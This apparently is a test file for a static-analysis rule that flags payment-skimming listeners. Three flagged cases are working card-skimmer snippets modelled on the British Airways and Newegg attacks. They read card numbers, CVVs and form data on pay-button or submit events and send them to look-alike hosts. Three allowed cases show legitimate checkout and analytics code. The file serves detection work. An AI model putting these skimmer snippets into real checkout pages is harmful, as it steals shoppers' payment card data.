// Tests for pay-button-trigger-exfil: a mouseup/touchend/click/submit trigger, card or form
// collection, and a send to an unknown or look-alike host. The finding is reported on the
// trigger listener. Sections are separate scripts.

// British Airways: jQuery bind on the pay button, serializeArray, $.ajax 500 ms later.
window.onload = function () {
  // ruleid: pay-button-trigger-exfil
  jQuery('#submitButton').bind('mouseup touchend', function () {
    var n = {};
    var r = jQuery('#paymentForm').serializeArray();
    n.name = document.getElementById('personPaying').value;
    var payload = JSON.stringify({ form: r, name: n });
    setTimeout(function () {
      jQuery.ajax({ type: 'POST', async: true, url: 'https://baways-gateway.top/gateway/app/dataprocessing/api/',
        data: payload, dataType: 'application/json' });
    }, 500);
  });
};

// ---
// Newegg-style: click on the credit-card pay button, card fields, XHR to an unknown host.
var btn = document.getElementById('btnCreditCard');
// ruleid: pay-button-trigger-exfil
btn.addEventListener('click', function () {
  var card = {
    number: document.querySelector('#cc_number').value,
    cvv: document.querySelector('#cc_cvv').value,
  };
  var x = new XMLHttpRequest();
  x.open('POST', 'https://neweggstats-cdn.top/GlobalData/');
  x.send(btoa(JSON.stringify(card)));
});

// ---
// Form submit listener with FormData and an image beacon.
var checkout = document.querySelector('form#checkout');
// ruleid: pay-button-trigger-exfil
checkout.addEventListener('submit', function () {
  var parts = [];
  new FormData(checkout).forEach(function (v, k) { parts.push(k + ':' + v); });
  new Image().src = 'https://secure-paygate.xyz/pixel.gif?d=' + encodeURIComponent(parts.join(';'));
});

// ---
// The merchant's own place-order handler: card fields posted to the site itself.
var placeOrder = document.getElementById('place-order');
// ok: pay-button-trigger-exfil
placeOrder.addEventListener('click', function () {
  var body = { number: document.getElementById('card-number').value,
               cvc: document.getElementById('card-cvc').value };
  fetch('/rest/default/V1/carts/mine/payment-information', {
    method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(body) });
});

// ---
// Braintree direct integration: submit handler sends the card to the processor.
var payForm = document.getElementById('payment-form');
// ok: pay-button-trigger-exfil
payForm.addEventListener('submit', function (e) {
  e.preventDefault();
  var cc = { number: payForm.querySelector('[name="cc-number"]').value,
             expirationDate: payForm.querySelector('[name="cc-exp"]').value };
  fetch('https://api.braintreegateway.com/merchants/abc123/client_api/v1/payment_methods/credit_cards',
    { method: 'POST', body: JSON.stringify({ creditCard: cc }) });
});

// ---
// Analytics click tracking on the pay button: no card or form data is collected.
// ok: pay-button-trigger-exfil
document.getElementById('checkout-button').addEventListener('click', function () {
  navigator.sendBeacon('https://www.google-analytics.com/g/collect?v=2&en=begin_checkout');
  new Image().src = 'https://px.ads-partner-network.example.net/conv?ev=checkout_click';
});
